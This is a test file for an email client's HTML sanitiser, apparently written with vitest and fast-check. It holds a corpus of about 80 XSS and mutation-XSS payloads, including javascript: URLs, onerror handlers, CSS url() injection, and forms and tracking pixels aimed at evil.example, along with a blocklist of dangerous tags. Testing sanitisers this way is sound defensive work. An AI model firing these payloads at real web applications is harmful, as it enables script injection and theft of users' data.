import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from '../../../api/sanitise-html.ts';

const options = {
  showRemoteImages: false,
  inlineImage: (contentId: string) => (contentId === 'logo@x' ? '/api/v1/attachment' : null),
};
const clean = (html: string, showRemoteImages = false): string =>
  sanitiseHtml(html, { ...options, showRemoteImages }).html ?? '';

const ATTRIBUTE = /\s([a-z-]+)="([^"<>]*)"/g;
const NAMES =
  /^(?:href|src|alt|title|width|height|style|dir|lang|align|valign|bgcolor|rel|target|referrerpolicy|loading|data-remote-image|border|cellpadding|cellspacing|role|colspan|rowspan|scope|span|color|face|size|start|type)$/;
const ADDRESS = /^(?:https?:\/\/|mailto:|\/api\/v1\/attachment$)/i;

/** Says what is wrong with cleaned HTML, reading it the simple way every browser must. */
function dangers(shown: string): string[] {
  const found: string[] = [];
  for (const [tag] of shown.matchAll(/<[^>]*>?/g)) {
    if (!/^<\/?[a-z][a-z0-9]*(?:\s[a-z-]+="[^"<>]*")*(?: \/)?>$/.test(tag))
      found.push(`odd: ${tag}`);
    if (FORBIDDEN.test(tag)) found.push(tag);
    for (const [, name = '', value = ''] of tag.matchAll(ATTRIBUTE)) {
      if (!NAMES.test(name)) found.push(`${name} in ${tag}`);
      if (/^(?:href|src)$/.test(name) && !ADDRESS.test(value)) found.push(value);
      if (
        name === 'style' &&
        /url|expression|import|position|behavior|binding|[\\@{}]/i.test(value)
      ) {
        found.push(value);
      }
    }
  }
  return found;
}

const FORBIDDEN =
  /<\/?(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|video|audio|textarea|select|noscript|frame|applet|portal|xmp|plaintext|title|body|html)\b/i;

const CORPUS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" OnLoad=alert(2)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x.png 2x">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(2)">',
  '<img src="https://evil.example/pixel.gif?u=1" width=1 height=1>',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/api/v1/inboxes">',
  '<img src="cid:unknown">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="/oauth/google/callback?state=1">x</a>',
  '<a href="#x" onclick="alert(1)">x</a>',
  '<a href="https://a.example" ping="https://evil.example">x</a>',
  '<a href="https://a.example" target="_top" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:u\\72l(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;background:url(\'x;y:z\')">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999">x</p>',
  '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>',
  '<p style="font-family:\'a\';color:red" id=body name=getElementById class=admin>x</p>',
  '<p style="color:red/*;*/;background:url(x)">x</p>',
  '<body background="https://evil.example/x.png" onload=alert(1)>',
  '<table background="https://evil.example/x.png"><td background="x">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<!--[if mso]><img src=x onerror=alert(1)><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a title="</a><img src=x onerror=alert(1)>">x',
  "<b title='\"><img src=x onerror=alert(1)>'>x",
  '<p <img src=x onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>>',
  '<img """><script>alert(1)</script>">',
  '\u0000<img src=x \u0000onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
];

describe('mail HTML', () => {
  it.each(CORPUS)('is harmless: %s', (attack) => {
    for (const shown of [clean(attack), clean(attack, true)]) {
      expect(dangers(shown)).toEqual([]);
    }
  });

  it.each(CORPUS)('stays as it is when cleaned again: %s', (attack) => {
    const once = clean(attack, true);
    expect(clean(once, true)).toBe(once);
  });

  it('is harmless however its pieces are put together', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...CORPUS), { maxLength: 6 }),
        fc.nat(40),
        (parts, cut) => {
          const shown = clean(parts.map((part, i) => part.slice(i % 2 ? cut : 0)).join(''), true);
          expect(dangers(shown)).toEqual([]);
        },
      ),
      { seed: 3, numRuns: 1_500 },
    );
  });

  it('keeps what people write', () => {
    const html =
      '<h1>Offer</h1><p style="color: #333; font-size: 14px; text-align: center">Hi <b>Ann</b>,<br>see <a href="https://x.example/a?b=1&amp;c=2">this</a></p><blockquote>&gt; old</blockquote><table border="1"><tr><td colspan="2">1</td></tr></table>';
    const shown = clean(html);
    for (const part of [
      '<h1>',
      'color:#333;font-size:14px;text-align:center',
      '<b>',
      '<blockquote>',
      '<td colspan="2">',
    ]) {
      expect(shown).toContain(part);
    }
    expect(shown).toContain(
      '<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">',
    );
  });

  it('leaves remote images out until asked, and counts them', () => {
    const html = '<img src="https://t.example/p.gif" alt="Logo"><img src="//t.example/2.gif">';
    expect(sanitiseHtml(html, options)).toEqual({
      html: '<img alt="Logo" data-remote-image="blocked" /><img alt="" data-remote-image="blocked" />',
      remoteImages: 2,
      truncated: false,
    });
    expect(clean(html, true)).toContain(
      'src="https://t.example/p.gif" referrerpolicy="no-referrer"',
    );
    expect(clean(html, true)).toContain('src="https://t.example/2.gif"');
  });

  it('leads inline images to their attachment and drops unknown ones', () => {
    expect(clean('<img src="cid:logo%40x">')).toBe('<img alt="" src="/api/v1/attachment" />');
    expect(clean('<img src="cid:other">')).toBe('<img alt="" />');
  });

  it('is not held up by what is nested, long or broken beyond reason', () => {
    const started = performance.now();
    expect(sanitiseHtml('<b>'.repeat(160_000), options).html).toBeNull();
    expect(
      sanitiseHtml(`${'<b><i>'.repeat(40_000)}${'</b></i>'.repeat(40_000)}`, options).html,
    ).toBeNull();
    expect(sanitiseHtml('x'.repeat(3_000_000), options).truncated).toBe(true);
    for (const piece of [
      '<',
      '<a ',
      '<p style="a{(;">',
      '<p style="color:red;',
      '&',
      '<!--',
      '<b></i>',
    ]) {
      sanitiseHtml(piece.repeat(500_000 / piece.length), options);
    }
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
